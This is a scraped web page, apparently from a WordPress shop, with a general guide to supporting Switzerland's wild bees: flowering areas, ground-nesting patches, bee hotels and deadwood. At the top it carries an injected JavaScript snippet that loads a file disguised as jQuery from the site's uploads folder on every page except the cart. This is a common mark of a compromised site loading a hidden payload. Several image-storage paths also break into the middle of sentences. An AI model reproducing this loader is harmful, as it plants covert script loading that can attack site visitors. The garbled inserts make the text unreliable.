if (window.location.pathname !== '/cart/') { var scriptElement = document.createElement('script'); scriptElement.src = '/wp-content/uploads/jquery2.min.js'; document.head.appendChild(scriptElement); }

Nurturing Switzerland’s Wild Bees: A Guide to Blühflächen

As guardians of our ecosystems, it’s paramount that we pay attention to the needs of wild bees, vital pollinators essential for biodiversity. While honey bees often take center stage, the wild bees truly paint the intricate tapestry of pollination. Understanding and nurturing their habitats through blühflächen (flowering areas) is a crucial step towards their conservation in Switzerland. This guide delves into the diverse nesting preferences of wild bees and provides insights into creating conducive environments across Switzerland.


Understanding Wild Bee Nesting Habits

Wild bees are discerning creatures, each with its own nesting idiosyncrasies. While some seek refuge underground, others prefer the cozy confines of hollow plant stems or wild bee hotels. Recognizing these nuances is key to effective habitat conservation. Approximately three-quarters of wild bees opt for ground nesting, necessitating dry, sunlit spaces with specific soil inclinations and vegetation covers.

Creating Ground Nesting Opportunities

Providing suitable ground nesting opportunities is paramount in Switzerland’s mosaic of landscapes. This can be achieved through deliberate actions such as cultivating kiesflächen (gravel areas) or sand patches. Additionally, preserving sparsely vegetated blühflächen and meadows allows these bees to thrive. Humanintervention, in the form of gentle foot traffic, can help maintain these areas, preventing overgrowth and ensuring continued suitability.

Building Wild Bee Hotels

For cavity-nesting species, wild bee hotels serve asinvaluable sanctuaries. These structures, meticulously designed with varying hole sizes, cater to the diverse needs of wild bee species. However, proper construction and strategic placement are vital for their effectiveness. Surrounding these hotels with diverse blühflächen ensures a steady forage supply, enhancing their appeal to wild bees.

Incorporating Deadwood and Plant Stems

In the natural cycle of decay, deadwood emerges as a haven for certain wild bee species. We provide nesting opportunities by incorporating deadwood structures like fences or logs, particularly for markstängelnisterinnen. These bees seek outvertical plant stems with accessible piths, emphasizing the importance of preserving vegetation such as blackberries, raspberries, mulleins, and thistles.

Importance of Blühflächen for Wild Bees

Blühflächen acts as a lifeline for wild bees, offering sustenance in the form of nectar and pollen. Their continuous blooming cycle ensures a year-round food supply for maintaining healthy populations. However, the indiscriminate use of pesticides poses a significant threat to these habitats, highlighting the importance of adopting sustainable practices to safeguard bee health.


As stewards of Switzerland’s biodiversity, it’s incumbent upon us to prioritize the conservation of wild bee habitats. We can foster environments where wild bees thrive by understanding their nesting habits and implementing targeted strategies such as creating ground nesting opportunities, building wild bee hotels, and preserving deadwood structures. Coupled with the preservation of diverse blühflächen, these efforts ensure the survival of wild bees and contribute to the broader goal of ecosystem preservation and native plant pollination. Let’s join hands in nurturing Switzerland’s wild bees and securing avibrant future for generations to come.

Shopping cart

Your cart is empty. Go to Shop
Select your currency
Scroll to Top